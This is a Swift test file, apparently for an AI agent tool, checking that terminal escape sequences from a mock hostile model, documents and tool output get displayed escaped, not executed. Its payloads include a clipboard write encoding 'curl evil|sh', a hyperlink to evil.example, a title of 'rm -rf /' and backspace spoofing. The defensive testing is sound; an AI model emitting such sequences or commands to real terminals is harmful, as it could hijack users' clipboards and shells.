import Agent
import Foundation
import TestSupport
import Testing
import Tools

@testable import steward

/// Text that would command the terminal.
@Suite struct TerminalEscapeTests {
  /// The inputs as the bytes that they describe, and what must be seen of them.
  static let payloads: [(id: String, text: String, shown: String)] = [
    ("TE-01", "log line \u{1B}]52;c;Y3VybCBldmlsfHNo\u{7} end", "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07"),
    (
      "TE-02", "see \u{1B}]8;;http://evil.example/?d=1\u{1B}\\click: nas.lan\u{1B}]8;;\u{1B}\\ end",
      "\\x1b]8;;http://evil.example/?d=1\\x1b"
    ),
    ("TE-04", "title \u{1B}]0;rm -rf /\u{7}\u{1B}[21t and \u{1B}[?1049h end", "\\x1b[21t"),
    ("TE-06", "pass\u{8}\u{8}\u{8}\u{8}FAIL end", "pass\\x08\\x08\\x08\\x08FAIL"),
  ]

  /// Without the blanks and line ends that wrapping moves, and without colours.
  private func plain(_ bytes: [UInt8]) -> String {
    String(decoding: bytes, as: UTF8.self).replacing(/\u{1B}\[[0-9;]*m/, with: "").filter { !$0.isWhitespace }
  }

  private func check(_ bytes: [UInt8], shows text: String, _ id: String) {
    #expect(TerminalCheck.forbidden(in: bytes).isEmpty, "\(id): \(TerminalCheck.forbidden(in: bytes))")
    #expect(plain(bytes).contains(text.filter { !$0.isWhitespace }), "\(id): \(plain(bytes))")
  }

  /// The model says it, a document says it, and the review says it again.
  @Test("TE-01: OSC 52, TE-02: OSC 8, TE-04: titles and reports, TE-06: backspaces", arguments: payloads)
  func isShownAndNotObeyed(id: String, text: String, shown: String) throws {
    let input = try AdversarialInput.named(id)
    let program = try Program()
    defer { program.remove() }
    try program.write(HostileLab.infrastructure, to: "INFRASTRUCTURE.md")
    try program.write("# Log\n\n## Zebra lines\n\n\(text)\n", to: "log.md")
    let server = try HostileServer([.says(text)])
    let answer = try ProgramOnTerminal.run(
      ["ask", "--model", server.model, "what do the documents say about zebra lines?"], lab: program.lab)
    check(answer, shows: shown, id)
    check(try ProgramOnTerminal.run(["search", "zebra", "lines"], lab: program.lab), shows: shown, id)
    check(try ProgramOnTerminal.run(["run", "search_docs", "query=zebra lines"], lab: program.lab), shows: shown, id)
    check(try ProgramOnTerminal.run(["review", "show", "last"], lab: program.lab), shows: shown, id)
    let json = try ProgramOnTerminal.run(["review", "show", "last", "--json"], lab: program.lab)
    #expect(TerminalCheck.forbidden(in: json).isEmpty)
    // The readable log too: people show it with cat.
    for path in try FileManager.default.subpathsOfDirectory(atPath: program.lab + "/sessions") {
      #expect(TerminalCheck.forbidden(in: Array(try program.read("sessions/" + path).utf8)).isEmpty)
    }
    input.verdict(.escape)
  }

  /// The transcript keeps text, not a blob: `\xNN` tells the bytes, and nothing of them is lost.
  @Test("TE-07: NUL and bytes that are no UTF-8, cut between two reads")
  func bytesThatAreNoTextAreShown() async throws {
    let input = try AdversarialInput.named("TE-07")
    let result = try await ProcessRunner().run(
      Command([
        "sh", "-c", #"printf 'a\000b\376'; sleep 0.2; printf '\377\300'; sleep 0.2; printf '\257\355\240\200 end\n'"#,
      ]))
    #expect(result.output == "a\0b\\xfe\\xff\\xc0\\xaf\\xed\\xa0\\x80 end\n")
    #expect(Escaper.escape(result.output) == "a\\x00b\\xfe\\xff\\xc0\\xaf\\xed\\xa0\\x80 end\n")
    // As a tool's output through the whole program: kept, shown and read back.
    let lab = try await HostileLab(
      [.call("show_bytes"), .says("done")], owner: ["y"],
      tools: ["show_bytes": labTool("show_bytes", ["cat", "/dev/null"], description: "show the bytes")])
    try lab.write(
      labTool("show_bytes", ["cat", lab.root + "/bytes.bin"], description: "show the bytes"),
      to: "tools/show_bytes.json")
    try Data([0x61, 0x00, 0xFE, 0xFF, 0xC0, 0xAF, 0x0A]).write(to: URL(fileURLWithPath: lab.root + "/bytes.bin"))
    // The same characters as text are told from the bytes: by what the result says, and by the hash.
    let bytes = try await lab.call("show_bytes")
    #expect(
      bytes.text.contains("[no text: bytes that are no UTF-8 stand as \\xNN; SHA-256 of the output: 1e0d95d6"),
      "\(bytes.text)")
    try Data(#"a\x00\xfe\xff\xc0\xaf"#.utf8).write(to: URL(fileURLWithPath: lab.root + "/bytes.bin"))
    let text = try await lab.call("show_bytes")
    #expect(text.text == #"a\x00\xfe\xff\xc0\xaf"#)
    try Data([0x61, 0x00, 0xFE, 0xFF, 0xC0, 0xAF, 0x0A]).write(to: URL(fileURLWithPath: lab.root + "/bytes.bin"))
    let answer = try await lab.ask("show the bytes")
    #expect(answer.calls.contains { $0.tool == "show_bytes" && $0.outcome == .done }, "\(answer)")
    let prompt = lab.server.requests.joined()
    #expect(!prompt.contains("\u{FFFD}"), "\(prompt)")
    let review = try ProgramOnTerminal.run(["review", "show", "last", "--lab", lab.root], lab: lab.root)
    check(review, shows: "a\\x00\\xfe\\xff\\xc0\\xaf", "TE-07")
    input.verdict(.escape)
  }

  @Test("TE-09: a model's stream that splits ESC and ]52; over two lines")
  func theFilterKeepsItsStateAcrossTokens() throws {
    let input = try AdversarialInput.named("TE-09")
    let program = try Program()
    defer { program.remove() }
    try program.write(HostileLab.infrastructure, to: "INFRASTRUCTURE.md")
    let server = try HostileServer([
      .says(["see \u{1B}", "]", "52;", "c;Y3VybA==", "\u{7}", " and \u{1B}", "[", "2J", " \u{9B}", "31m end"])
    ])
    let bytes = try ProgramOnTerminal.run(["ask", "--model", server.model, "hello there"], lab: program.lab)
    check(bytes, shows: "see \\x1b]52;c;Y3VybA==\\x07 and \\x1b[2J \\x9b31m end", "TE-09")
    input.verdict(.escape)
  }
}
